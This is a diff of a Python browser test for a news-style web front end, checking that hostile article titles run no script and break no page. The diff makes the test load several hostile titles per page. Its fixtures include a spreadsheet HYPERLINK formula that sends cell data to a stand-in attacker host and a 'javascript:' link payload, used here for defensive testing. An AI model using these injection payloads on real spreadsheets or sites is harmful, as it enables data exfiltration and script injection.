@@ -31,6 +31,8 @@ TITLES = {
     "a megabyte": "긴 제목 " * 100_000,
     "formula": '=HYPERLINK("http://evil.example/?"&A1,"의성")',
 }
+TOGETHER = [tuple(name for name in TITLES if len(TITLES[name]) < 200), ("one word",), ("a megabyte",)]
+"""Those that fit beside others stand on the same pages: each page is opened once for all of them."""
 MAX_OTHER_CHARS = 20_000
 LINK = "javascript:window.pwned=1"
 
@@ -86,7 +88,7 @@ def list_paths(count: int) -> list[str]:
             "/sosik/article?_as=table",
         ),
         *(f"/sosik/{table}" for table in tables),
-        *("/sosik/ranking/1", "/sosik/quote/1", "/sosik/outlet/o1"),
+        *(f"/sosik/{row}{n}" for n in range(1, count + 1) for row in ("ranking/", "quote/", "outlet/o")),
         *(f"/sosik/{question.id}?since=2000" for question in read_questions().questions),
         *articles,
     ]
@@ -109,10 +111,10 @@ def check_pages(browser: Browser, address: str, paths: list[str]) -> None:
     page.close()
 
 
-@pytest.mark.parametrize("proves", TITLES)
-def test_hostile_rows_run_nothing_and_break_no_page(browser: Browser, tmp_path: Path, proves: str) -> None:
-    with run_front(create_hostile_archive(tmp_path, [TITLES[proves]])) as address:
-        check_pages(browser, address, list_paths(1))
+@pytest.mark.parametrize("names", TOGETHER, ids=", ".join)
+def test_hostile_rows_run_nothing_and_break_no_page(browser: Browser, tmp_path: Path, names: tuple[str, ...]) -> None:
+    with run_front(create_hostile_archive(tmp_path, [TITLES[name] for name in names])) as address:
+        check_pages(browser, address, list_paths(len(names)))
 
 
 @needs_shared
